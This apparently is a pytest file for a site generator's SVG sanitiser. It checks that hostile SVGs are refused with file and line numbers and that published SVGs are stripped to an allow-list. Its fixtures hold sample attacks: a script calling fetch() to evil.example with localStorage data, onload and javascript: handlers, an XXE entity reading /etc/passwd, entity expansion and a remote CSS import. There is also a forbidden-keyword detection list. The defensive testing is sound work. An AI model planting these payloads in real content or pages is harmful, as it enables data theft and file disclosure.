"""SVG images: hostile ones refused by check with file:line, every published one rebuilt from an
allow-list, unused assets not published (issue 14)."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from conftest import Run  # type: ignore[import-not-found]
from fault_checks import assert_plain  # type: ignore[import-not-found]

from generator.common.svg import problems, sanitise

HOSTILE = """<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="steal()">
  <script>fetch("https://evil.example/?" + localStorage.length)</script>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>
  <a xlink:href="javascript:steal()"><rect width="5" height="5"/></a>
  <image href="https://evil.example/pixel.png"/>
  <rect style="fill: url(https://evil.example/x)" width="1" height="1"/>
</svg>
"""
# Nothing check refuses, but much an allow-list drops: editors' metadata, animation, comments.
UNTIDY = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
     xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" viewBox="0 0 40 40" width="40" height="40"
     inkscape:version="1.3" role="img">
  <!-- drawn by hand -->
  <title>Three circles</title>
  <sodipodi:namedview id="base" pagecolor="#ffffff"/>
  <metadata>rdf stuff</metadata>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer">
    <circle cx="20" cy="20" r="18" fill="none" stroke="#1d4e89">
      <set attributeName="fill" to="red" begin="click"/>
    </circle>
    <circle cx="20" cy="20" r="4" fill="url(#shade)"/>
  </g>
  <defs><radialGradient id="shade"><stop offset="0" stop-color="#1d4e89"/></radialGradient></defs>
</svg>
"""
FORBIDDEN = ("script", "onload", "foreignObject", "javascript:", "evil.example", "inkscape", "sodipodi", "<set")


def test_sanitiser_removes_everything_hostile() -> None:
    clean = sanitise(HOSTILE.encode()).decode()
    for word in FORBIDDEN:
        assert word not in clean, word
    assert "<rect" in clean  # the drawing itself stays


def test_sanitiser_keeps_the_drawing() -> None:
    clean = sanitise(UNTIDY.encode()).decode()
    for word in FORBIDDEN:
        assert word not in clean, word
    for kept in ("<title>Three circles</title>", 'r="18"', 'fill="url(#shade)"', "radialGradient", 'role="img"'):
        assert kept in clean, kept
    assert problems(UNTIDY.encode()) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
            "entity",
        ),
        (
            '<!DOCTYPE svg [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>',
            "entity",
        ),
        ('<svg xmlns="http://www.w3.org/2000/svg"><use href="other.svg#x"/></svg>', "parts of themselves"),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/a.css);</style></svg>',
            "styles",
        ),
        ("<svg xmlns='http://www.w3.org/2000/svg'><rect", "not well-formed"),
        ('<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>', "not an SVG"),
    ],
)
def test_problems_name_what_is_wrong(text: str, expected: str) -> None:
    found = problems(text.encode())
    assert found and any(expected in p.message for p in found), found


def test_check_refuses_a_hostile_svg_with_file_and_line(cli: Run, guide: Path) -> None:
    (guide / "content" / "assets" / "evil.svg").write_text(HOSTILE)
    for command in ("check", "build"):
        output = assert_plain(cli(command, "--guide", guide), 1)
        for line, what in (
            (2, "onload"),
            (3, "<script>"),
            (4, "<foreignObject>"),
            (5, "href"),
            (6, "href"),
            (7, "style"),
        ):
            assert f"content/assets/evil.svg:{line}:1: {what}:" in output, (line, what, output)
    assert not (guide / "build").exists()


@pytest.mark.slow
def test_published_svgs_are_sanitised_and_unused_assets_left_out(cli: Run, guide: Path) -> None:
    assets = guide / "content" / "assets"
    (assets / "drawing.svg").write_text(UNTIDY)
    (assets / "unused.svg").write_text(UNTIDY)
    (assets / "notes.txt").write_text("private notes\n")
    page = guide / "content" / "pages" / "first-page.md"
    page.write_text(page.read_text() + "\n![Three circles drawn by hand](assets/drawing.svg)\n")
    result = cli("build", "--guide", guide, "--quiet")
    assert result.returncode == 0, result.stderr
    out = guide / "build"
    published = [p for p in (out / "site").rglob("drawing.svg")]
    assert published, "the used SVG is published"
    with zipfile.ZipFile(next(out.glob("*-offline.zip"))) as bundle:
        names = bundle.namelist()
        zipped = [bundle.read(n) for n in names if n.endswith("drawing.svg")]
    assert zipped
    for data in [p.read_bytes() for p in published] + zipped:
        for word in FORBIDDEN:
            assert word.encode() not in data, word
    everything = [p.name for p in out.rglob("*")] + [n.rsplit("/", 1)[-1] for n in names]
    assert "unused.svg" not in everything and "notes.txt" not in everything
    assert "circles.svg" not in everything  # in the sample's assets, used by no page
